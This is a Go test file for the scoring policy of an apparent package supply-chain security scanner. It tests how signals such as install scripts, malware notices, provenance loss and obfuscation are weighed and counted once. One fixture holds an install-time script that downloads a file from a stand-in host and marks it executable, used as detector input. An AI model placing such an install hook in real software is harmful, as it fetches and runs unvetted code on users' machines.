package policy

import (
	"bytes"
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	"pgregory.net/rapid"

	"github.com/lockkeeper/lockkeeper/internal/advisory"
	"github.com/lockkeeper/lockkeeper/internal/artifact"
	"github.com/lockkeeper/lockkeeper/internal/code"
	"github.com/lockkeeper/lockkeeper/internal/evidence"
	"github.com/lockkeeper/lockkeeper/internal/registry"
	"github.com/lockkeeper/lockkeeper/internal/signal"
)

// Two medium vulnerabilities must not add up to what only a critical one may do.
func TestASignalCountsOnceAtItsWorst(t *testing.T) {
	medium := signal.Finding{Signal: "known-vulnerability", Severity: advisory.Medium}
	j := Judge(recommended(t), now, []Case{{dossier(), []signal.Finding{medium, medium, points("deprecated", 5), points("deprecated", 20)}}}, nil, nil)
	if want := 30 + 20; j.Score != want || j.Verdict != Warn {
		t.Errorf("score %d, verdict %s, want %d and warn", j.Score, j.Verdict, want)
	}
}

// with gives a finding a piece of evidence.
func with(evidence string, f signal.Finding) signal.Finding {
	f.Facts = []signal.Fact{{Name: evidence, Value: "yes"}}
	return f
}

// Each fact that several signals tell counts once; signals that look alike and
// tell two facts count both.
func TestCountedOnce(t *testing.T) {
	const placeholder, unlisted, changed, lost = "security-placeholder", "unlisted-version", "publisher-changed", "provenance-lost"
	type list = []signal.Finding
	for _, test := range []struct {
		name     string
		findings list
		score    int
		echoes   string // "signal=counting signal", by the order of the findings
	}{
		{"a script gained and new", list{points(gained, 55), points("install-script-new", 25)}, 55, "install-script-new=install-script-gained"},
		{"in the other order", list{points("install-script-new", 25), points(gained, 55)}, 55, "install-script-new=install-script-gained"},
		{"the greater counts", list{points(gained, 10), points("install-script-new", 25)}, 25, "install-script-gained=install-script-new"},
		{"a script gained and changed", list{points(gained, 55), points("install-script-changed", 10)}, 55, "install-script-changed=install-script-gained"},
		{"a script and a dependency", list{points(gained, 25), points(fresh, 25)}, 50, ""},

		{"equal: the first by name", list{points(unlisted, 60), points(placeholder, 60)}, 60, "unlisted-version=security-placeholder"},
		{"pulled for malware, which is in doubt", list{points("known-malware", 60), points(unlisted, 60)}, 60, "unlisted-version=known-malware"},
		{"deprecated with a warning, and pulled", list{with("speaks_of", points("deprecated", 20)), points(unlisted, 60)}, 60, "deprecated=unlisted-version"},
		{"deprecated for another reason", list{points("deprecated", 5), points(unlisted, 50)}, 55, ""},

		{"a notice of the vulnerability", list{with("speaks_of", points("deprecated", 20)), {Signal: "known-vulnerability", Severity: advisory.Medium}}, 30, "deprecated=known-vulnerability"},
		{"a notice of something else", list{points("deprecated", 5), {Signal: "known-vulnerability", Severity: advisory.Medium}}, 35, ""},
		{"malware and a vulnerability", list{points("known-malware", 20), {Signal: "known-vulnerability", Severity: advisory.Medium}}, 50, ""},

		{"neither provenance nor commit", list{points(lost, 35), points("source-link-lost", 15)}, 35, "source-link-lost=provenance-lost"},
		{"from a pipeline to a person", list{points(lost, 35), with("pipeline_before", points(changed, 15))}, 35, "publisher-changed=provenance-lost"},
		{"from a person to another, and no provenance", list{points(lost, 35), points(changed, 15)}, 50, ""},

		{"the package's silence and its line's", list{points("dormant-revival", 15), points("old-line-revived", 15)}, 15, "old-line-revived=dormant-revival"},
		{"a new account after the silence", list{points("dormant-revival", 15), with("silence", points(changed, 30))}, 30, "dormant-revival=publisher-changed"},
		{"a new account, and no silence of it", list{points("dormant-revival", 15), points(changed, 15)}, 30, ""},

		{"an ended line beside another", list{points("old-line-revived", 15), points("release-burst", 15)}, 15, "release-burst=old-line-revived"},
		{"a silence, and two lines at once", list{points("dormant-revival", 15), points("release-burst", 15)}, 30, ""},
		{"all three: the two that tell different facts", list{points("dormant-revival", 15), points("old-line-revived", 15), points("release-burst", 15)}, 30,
			"old-line-revived=dormant-revival"},

		{"a dependency that is days old, and new to the tree", list{points(fresh, 45), points("dependency-added", 5)}, 45, "dependency-added=young-dependency"},

		{"a chain, and its links", list{points("behaviour-chain", 40), points("runtime-download", 30), points("new-host", 25), points("new-capability", 8)}, 40,
			"new-capability=behaviour-chain new-host=behaviour-chain runtime-download=behaviour-chain"},
		{"obfuscated, and so unreadable", list{points("obfuscation-added", 30), points("unreadable-code", 10)}, 30, "unreadable-code=obfuscation-added"},
		{"obfuscated, and a chain", list{points("obfuscation-added", 30), points("behaviour-chain", 40)}, 70, ""},
		{"a manifest with a name twice", list{points("manifest-confusion", 60), points("archive-fault", 10)}, 60, "archive-fault=manifest-confusion"},

		{"the hash is neither the base's nor the registry's", list{points("integrity-mismatch", 30), points("relocked", 30)}, 60, ""},
		{"another address and no hash", list{points("off-registry-source", 40), points(missing, 10)}, 50, ""},
		{"a new maintainer and a new publisher", list{points("maintainer-added", 10), points(changed, 15)}, 25, ""},
	} {
		j := Judge(recommended(t), now, []Case{{dossier(), test.findings}}, nil, nil)
		var echoes []string
		for _, f := range j.Cases[0].Findings {
			if (f.Echo != "") != (f.Points == 0) {
				t.Errorf("%s: %s has %d points, echo %q", test.name, f.Signal, f.Points, f.Echo)
			}
			if f.Echo != "" {
				echoes = append(echoes, f.Signal+"="+f.Echo)
			}
		}
		if got := strings.Join(echoes, " "); j.Score != test.score || got != test.echoes {
			t.Errorf("%s: score %d, want %d; counted elsewhere: %q, want %q", test.name, j.Score, test.score, got, test.echoes)
		}
	}
}

// TestMostPointsCount compares the choice with every other one.
func TestMostPointsCount(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		c := drawCase(t)
		p := drawPolicy(t)
		p.Exceptions = nil
		got := Judge(p, now, []Case{c}, nil, nil).Cases[0]

		j := judge{policy: p, now: now, excuses: newExcuses(nil, nil, now)}
		var all []Weighed
		for _, f := range c.Findings {
			all = append(all, Weighed{Finding: f, Points: j.points(f, p.Signals[f.Signal], c.Dossier)})
		}
		best := 0
		for choice := range 1 << len(all) {
			best = max(best, sumOf(all, choice))
		}
		sum := 0
		for _, f := range got.Findings {
			sum += f.Points
		}
		if sum != best {
			t.Fatalf("%d points count, %d could", sum, best)
		}
	})
}

// sumOf gives the points of the chosen findings, or 0 if two tell the same.
func sumOf(all []Weighed, choice int) int {
	signals, facts, sum := map[string]bool{}, uint(0), 0
	for i := range all {
		if choice&(1<<i) == 0 {
			continue
		}
		if signals[all[i].Signal] || told(&all[i])&facts != 0 {
			return 0
		}
		signals[all[i].Signal] = true
		facts |= told(&all[i])
		sum += all[i].Points
	}
	return sum
}

// However many findings there are, the choice is made at once.
func TestManyRivals(t *testing.T) {
	var findings []signal.Finding
	for _, row := range signal.Table() {
		for n := range 200 {
			f := points(row.ID, 1+n%7)
			if n%2 == 0 {
				f = with("silence", f)
			}
			findings = append(findings, f)
		}
	}
	start := time.Now()
	Judge(recommended(t), now, []Case{{dossier(), findings}}, nil, nil)
	if took := time.Since(start); took > 2*time.Second {
		t.Errorf("took %s", took)
	}
}

// TestEchoesAreWhole: a shared fact has two signals or more, all of them in the
// table, and a reason.
func TestEchoesAreWhole(t *testing.T) {
	for _, e := range echoes {
		if len(e.signals) < 2 || e.fact == "" || !strings.HasSuffix(e.why, ".") {
			t.Errorf("%q lacks something", e.fact)
		}
		for _, id := range e.signals {
			if _, ok := signal.Lookup(id); !ok {
				t.Errorf("%s: no signal is called %s", e.fact, id)
			}
		}
		for id := range e.only {
			if !slices.Contains(e.signals, id) {
				t.Errorf("%s: %s is narrowed and not listed", e.fact, id)
			}
		}
	}
}

// TestConditionsAreMet: what narrows a shared fact is evidence that its signal
// gives.
func TestConditionsAreMet(t *testing.T) {
	before := registry.Release{Version: "1.0.0", Published: now.AddDate(-1, 0, 0), Publisher: registry.Person{Name: "bot"}, Trusted: true}
	release := registry.Release{Version: "1.0.1", Published: now.AddDate(0, 0, -30), Publisher: registry.Person{Name: "mallory"}, Deprecated: "malicious"}
	d := dossier()
	d.Change.To = "1.0.1"
	d.Release = &release
	d.Package = &registry.Package{Ecosystem: "npm", Has: registry.Facts{Times: true}, Releases: []registry.Release{before, release}}
	found := make(map[string]Weighed)
	inside := dossier()
	inside.Change.Name = "pad-of-the-acme"
	inside.Package = &registry.Package{Ecosystem: "npm", Created: now.AddDate(-1, 0, 0)}
	script := []byte("curl http://files.invalid/x -o x\nchmod +x x\n")
	profile := &artifact.Profile{Files: []artifact.File{{Path: "get.sh", Kind: artifact.Script, Reach: artifact.AtInstall, Code: code.Read("get.sh", script)}}}
	inside.Content = &evidence.Content{Profile: profile, Delta: artifact.Diff(nil, profile)}
	for _, f := range slices.Concat(signal.Run(d, signal.Context{Now: now}), signal.Run(inside, signal.Context{Now: now})) {
		found[f.Signal] = Weighed{Finding: f}
	}
	for _, e := range echoes {
		for id, only := range e.only {
			if f := found[id]; !has(&f, only.evidence) || only.words == "" {
				t.Errorf("%s: %s has no evidence %q in %v", e.fact, id, only.evidence, f.Facts)
			}
		}
	}
}

func TestExplain(t *testing.T) {
	var b bytes.Buffer
	if err := Explain(&b); err != nil {
		t.Fatal(err)
	}
	compare(t, "testdata/explain.txt", b.String())
	for line := range strings.Lines(b.String()) {
		if len([]rune(strings.TrimSuffix(line, "\n"))) > 80 {
			t.Errorf("a line is too long: %s", line)
		}
	}
	gone := errors.New("gone")
	if err := Explain(broken{gone}); !errors.Is(err, gone) {
		t.Errorf("error %v", err)
	}
}

// broken is a pipe whose reader has gone.
type broken struct{ err error }

func (b broken) Write([]byte) (int, error) { return 0, b.err }
